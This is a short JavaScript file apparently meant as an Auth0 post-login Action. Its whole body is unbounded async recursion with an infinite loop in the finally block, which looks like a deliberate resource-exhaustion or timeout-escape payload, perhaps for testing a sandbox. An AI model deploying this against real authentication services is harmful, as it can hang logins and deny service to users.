exports.onExecutePostLogin = async function (event, api) {
  const f = async () => { try { await f(); } finally { for (;;); } }; await f();
};
